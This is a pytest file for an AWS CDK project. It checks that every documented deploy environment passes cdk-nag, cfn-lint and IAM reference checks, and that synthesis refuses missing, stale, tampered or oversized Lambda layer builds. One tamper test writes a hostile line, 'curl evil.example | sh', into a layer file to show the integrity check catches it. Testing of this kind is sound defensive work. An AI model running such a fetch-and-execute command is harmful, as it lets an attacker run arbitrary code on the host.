"""The documented deploy environments synthesize with cdk-nag, and the defects issue 32 found stay fixed.

Every environment the docs name (environment-agnostic, a concrete account and region, the second region of a
multi-region fleet, the organisation hub, agnostic and concrete) is synthesized in-process here, with cdk-nag as a
validation plugin, so an acknowledgement written for ``<AWS::Region>`` that stops matching a concrete region fails a
unit test. ``make deploy-check`` runs the same commands through the real CDK CLI with the layer build.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from infra.app_builder import build_app
from infra.settings import Settings, SettingsError
from tests.conftest import ROOT
from tests.infra.policy_eval import Request, resolve, statement_matches

ACCOUNT = "111122223333"
ORG = {"id": "o-a1b2c3d4e5", "ou_ids": ["ou-ab12-11111111"], "regions": ["us-east-1", "eu-west-1", "ap-south-1"]}

ENVIRONMENTS: dict[str, dict[str, Any]] = {
    "agnostic": {},
    "one account and region": {"account": ACCOUNT, "region": "us-east-1"},
    "audit region": {"account": ACCOUNT, "region": "us-east-1", "audit_region": "us-east-1"},
    "second region": {"account": ACCOUNT, "region": "eu-west-1", "audit_region": "us-east-1"},
    "organisation hub": {"account": ACCOUNT, "region": "us-east-1", "organization": ORG},
    "organisation hub, agnostic": {"organization": ORG},
}


def _template(context: dict[str, Any]) -> dict[str, Any]:
    app, stack = build_app(context=context)
    return app.synth().get_stack_by_name(stack.stack_name).template  # raises on any unacknowledged finding


@pytest.fixture(scope="module")
def templates() -> dict[str, dict[str, Any]]:
    return {name: _template(context) for name, context in ENVIRONMENTS.items()}


def test_every_documented_environment_passes_cdk_nag(templates: dict[str, dict[str, Any]]) -> None:
    """A concrete account/region turns ``${AWS::Region}`` into ``us-east-1`` in every ARN; the acknowledgements are
    named from the grant's own ARN, so they follow (7 IAM5 findings, 10 in organisation mode, failed before)."""
    assert set(templates) == set(ENVIRONMENTS)
    concrete = json.dumps(templates["one account and region"])
    assert f"arn:aws:ec2:us-east-1:{ACCOUNT}:instance/*" in concrete


def _spoke(template: dict[str, Any]) -> dict[str, Any] | None:
    """The spoke template an organisation hub's StackSet deploys into every member account and region."""
    stack_sets = [v for v in template["Resources"].values() if v["Type"] == "AWS::CloudFormation::StackSet"]
    return json.loads(stack_sets[0]["Properties"]["TemplateBody"]) if stack_sets else None


def _every_template(templates: dict[str, dict[str, Any]]) -> dict[str, dict[str, Any]]:
    """Each documented synth's template, and the spoke of each organisation hub."""
    found = dict(templates)
    found |= {f"{name}, spoke": spoke for name, t in templates.items() if (spoke := _spoke(t)) is not None}
    assert len(found) == len(templates) + 2
    return found


def test_every_documented_synth_passes_cfn_lint(templates: dict[str, dict[str, Any]], tmp_path: Path) -> None:
    """Not only the default synth: the region-specific, audit, second-region and organisation templates and the spokes
    they deploy. The environment-agnostic organisation hub's E3032 is acknowledged with its reason in infra/nag.py."""
    from infra.nag import CFN_LINT_ACKNOWLEDGED
    from tests.infra.cfn_lint import acknowledged, lint, open_errors

    files = []
    for name, template in _every_template(templates).items():
        files.append(tmp_path / f"{name.replace(' ', '-').replace(',', '')}.template.json")
        files[-1].write_text(json.dumps(template, indent=1))
    findings = lint(files)
    assert open_errors(findings) == []
    assert {f["Rule"]["Id"] for f in findings if f["Level"] == "Error" and acknowledged(f)} == set(
        CFN_LINT_ACKNOWLEDGED
    ), "an acknowledgement no synth needs any more: remove it from infra/nag.py"


def test_every_documented_synth_is_valid_per_the_sar(templates: dict[str, dict[str, Any]]) -> None:
    """The Service Authorization Reference check reads every synth, the spokes included: a region-specific spoke writes
    its ARNs with Fn::Sub (``arn:aws:ec2:${AWS::Region}:...``), which the checker must resolve, not report."""
    from tests.infra.sar import statements, validate
    from tests.infra.test_organization import HUB_ROLES, _parameters, _with_parameters
    from tests.infra.test_sar import _known

    problems = {}
    for name, template in _every_template(templates).items():
        checked = _with_parameters(template, _parameters(HUB_ROLES)) if name.endswith("spoke") else template
        assert sum(1 for _ in statements(checked)) > 20, name
        problems[name] = [str(p) for p in validate(checked) if not _known(p)]
    assert {name: found for name, found in problems.items() if found} == {}


def test_the_second_region_reports_bucket_logs_are_acknowledged(templates: dict[str, dict[str, Any]]) -> None:
    buckets = [k for k, v in templates["second region"]["Resources"].items() if v["Type"] == "AWS::S3::Bucket"]
    assert any(k.startswith("NotificationsReportsAccessLogs") for k in buckets)


def _key_statements(template: dict[str, Any]) -> list[dict[str, Any]]:
    (key,) = [v for v in template["Resources"].values() if v["Type"] == "AWS::KMS::Key"]
    return key["Properties"]["KeyPolicy"]["Statement"]


@pytest.mark.parametrize("environment", ["agnostic", "one account and region"])
def test_eventbridge_may_describe_the_bus_key_without_an_encryption_context(
    templates: dict[str, dict[str, Any]], environment: str
) -> None:
    """DescribeKey requests carry no encryption context: an allow that requires one never applies."""
    template = templates[environment]
    account = ACCOUNT if environment != "agnostic" else "123456789012"
    request = Request(
        action="kms:DescribeKey",
        resource="*",
        context={
            "aws:SourceAccount": account,
            "aws:SourceArn": f"arn:aws:events:us-east-1:{account}:event-bus/governor",
        },
    )
    allowing = []
    for statement in _key_statements(template):
        principal = json.dumps(statement.get("Principal"))
        events_allow = statement["Effect"] == "Allow" and "events.amazonaws.com" in principal
        if events_allow and statement_matches(resolve(statement, template["Resources"]), request):
            allowing.append(statement)
    assert allowing, "no key-policy statement lets EventBridge DescribeKey without an encryption context"
    assert all(
        not any(key.startswith("kms:EncryptionContext") for block in s.get("Condition", {}).values() for key in block)
        for s in allowing
    )
    foreign = Request(action="kms:DescribeKey", resource="*", context={"aws:SourceAccount": "999999999999"})
    elsewhere = Request(
        action="kms:DescribeKey",
        resource="*",
        context={"aws:SourceAccount": account, "aws:SourceArn": f"arn:aws:events:eu-west-1:{account}:event-bus/x"},
    )
    for request in (foreign, elsewhere):
        assert not any(
            statement_matches(resolve(s, template["Resources"]), request)
            for s in _key_statements(template)
            if s["Effect"] == "Allow" and "events.amazonaws.com" in json.dumps(s.get("Principal"))
        ), request


def _stack_set(template: dict[str, Any]) -> dict[str, Any]:
    (stack_set,) = [v for v in template["Resources"].values() if v["Type"] == "AWS::CloudFormation::StackSet"]
    return stack_set["Properties"]


def _regions_in(group: dict[str, Any], template: dict[str, Any], region: str) -> list[str]:
    """The group's regions as CloudFormation resolves them when the hub is deployed in ``region``."""
    conditions = template.get("Conditions", {})

    def holds(name: str) -> bool:
        left, right = conditions[name]["Fn::Equals"]
        values = [region if value == {"Ref": "AWS::Region"} else value for value in (left, right)]
        return values[0] == values[1]

    out: list[str] = []
    for item in group["Regions"]:
        if isinstance(item, dict) and "Fn::If" in item:
            name, then, otherwise = item["Fn::If"]
            item = then if holds(name) else otherwise
        if item != {"Ref": "AWS::NoValue"}:
            out.append(item)
    return out


@pytest.mark.parametrize("environment", ["organisation hub", "organisation hub, agnostic"])
def test_the_hub_accounts_other_regions_get_a_spoke(templates: dict[str, dict[str, Any]], environment: str) -> None:
    """Issue 32 item 7: the organisation group leaves the hub account out everywhere; a second group brings a spoke
    to the hub account in every organisation region but its own (where its own default-bus rules listen)."""
    template = templates[environment]
    groups = _stack_set(template)["StackInstancesGroup"]
    organisation = [g for g in groups if g["DeploymentTargets"]["AccountFilterType"] == "DIFFERENCE"]
    hub = [g for g in groups if g["DeploymentTargets"]["AccountFilterType"] == "INTERSECTION"]
    assert len(organisation) == 1 and len(hub) == 1
    assert hub[0]["DeploymentTargets"]["Accounts"] == [{"Ref": "AWS::AccountId"}]
    assert hub[0]["DeploymentTargets"]["OrganizationalUnitIds"] == ORG["ou_ids"]
    hub_regions = ["us-east-1"] if environment == "organisation hub" else ORG["regions"]
    for home in hub_regions:
        covered = set(_regions_in(hub[0], template, home))
        assert covered == set(ORG["regions"]) - {home}, home


def test_a_one_region_organisation_adds_no_hub_group_in_that_region() -> None:
    template = _template({"organization": {**ORG, "regions": ["us-east-1"]}, "account": ACCOUNT, "region": "us-east-1"})
    groups = _stack_set(template)["StackInstancesGroup"]
    assert [g["DeploymentTargets"]["AccountFilterType"] for g in groups] == ["DIFFERENCE"]


@pytest.mark.parametrize(
    ("context", "setting"),
    [
        ({"stack_name": "G" * 40, "region": "ap-southeast-2"}, "context stack_name: 40 characters"),
        ({"stack_name": "G" * 40}, "context stack_name: 40 characters"),
        ({"stack_name": "Gpu_Governor"}, "context stack_name:"),
        ({"layer": "public"}, "context layer: 'public'"),
        ({"layer": "auto"}, "context layer: 'auto'"),
        ({"region": "mars-1"}, "context region:"),
        ({"account": "1234"}, "context account:"),
        ({"log_retention_days": "ninety"}, "context log_retention_days:"),
        ({"bus_name": "gov bus"}, "context bus_name:"),
    ],
)
def test_a_setting_aws_would_refuse_stops_the_synth_naming_it(context: dict[str, Any], setting: str) -> None:
    with pytest.raises(SettingsError) as raised:
        Settings.from_context(context.get)
    assert str(raised.value).startswith(setting) and "\n" not in str(raised.value)


def test_the_longest_stack_name_that_fits_synthesizes_its_roles_within_iam_limits() -> None:
    settings = Settings.from_context({"stack_name": "G" * 39, "region": "ap-southeast-2"}.get)
    assert len(f"{settings.stack_name}-gpu-admin-{settings.region}") == 64


def _app_py(tmp_path: Path, context: dict[str, Any]) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("AWS_", "CDK_"))}
    env |= {"CDK_CONTEXT_JSON": json.dumps(context), "CDK_OUTDIR": str(tmp_path / "out")}
    return subprocess.run([sys.executable, "app.py"], cwd=ROOT, env=env, capture_output=True, text=True, check=False)


@pytest.mark.parametrize("state", ["missing", "empty", "stale"])
def test_app_py_never_synthesizes_without_a_verified_layer(tmp_path: Path, state: str) -> None:
    """A failed build leaves no layer and no manifest; an empty or stale one is refused too (fail closed)."""
    build = tmp_path / "build"
    if state != "missing":
        (build / "layer" / "python").mkdir(parents=True)
        manifest = {"fingerprint": "0" * 64 if state == "stale" else _fingerprint(), "distributions": {}}
        (build / "layer-manifest.json").write_text(json.dumps(manifest))
    done = _app_py(tmp_path, {"layer_build": str(build)})
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr[-2000:]
    line = done.stderr.strip()
    assert "\n" not in line and line.startswith("cdk synth stopped: context layer=build:") and "make layer" in line
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").glob("*.template.json"))


@pytest.mark.parametrize("tamper", ["changed", "added"])
def test_app_py_refuses_a_build_whose_files_changed_after_it_was_built(tmp_path: Path, tamper: str) -> None:
    """The manifest's fingerprint is today's, but a file of ``build/layer`` was edited, or a foreign one dropped in,
    after the build: the synth names it and deploys nothing."""
    from tests.layer_builds import stand_in_build

    stand_in_build(tmp_path / "build")
    victim = sorted(p for p in (tmp_path / "build" / "layer").rglob("*.py") if p.is_file())[0]
    if tamper == "changed":
        victim.write_text(victim.read_text() + "import os; os.system('curl evil.example | sh')\n")
        named = victim.name
    else:
        (victim.parent / "sitecustomize.py").write_text("print('not built by make layer')\n")
        named = "sitecustomize.py"
    done = _app_py(tmp_path, {"layer_build": str(tmp_path / "build")})
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr[-2000:]
    line = done.stderr.strip()
    assert line.startswith("cdk synth stopped: context layer=build:") and named in line and "make layer" in line
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").glob("*.template.json"))


def _fingerprint() -> str:
    from infra.build_layer import REQUIREMENTS, fingerprint

    return fingerprint(REQUIREMENTS)


def test_app_py_refuses_a_layer_too_large_for_lambda(tmp_path: Path) -> None:
    """The build measures every function (code asset and its layers) against Lambda's limit; the synth measures again
    with today's code asset, on the build's verified files."""
    from infra.layer_manifest import file_hashes
    from tests.layer_builds import stand_in_build

    build = tmp_path / "build"
    stand_in_build(build)
    site = build / "layer" / "matplotlib" / "python"
    with (site / "big.bin").open("wb") as handle:
        handle.truncate(262_144_000)  # sparse: no real disk used
    record = json.loads((build / "layer-manifest.json").read_text())  # as a build would record it
    record["layers"]["matplotlib"]["files"] = file_hashes(build / "layer" / "matplotlib")
    record["layers"]["matplotlib"]["unzipped_bytes"] += 262_144_000
    (build / "layer-manifest.json").write_text(json.dumps(record))
    done = _app_py(tmp_path, {"layer_build": str(build)})
    assert done.returncode == 2 and "Lambda allows 262,144,000" in done.stderr, done.stderr[-2000:]
    assert "the report function's code and layers" in done.stderr
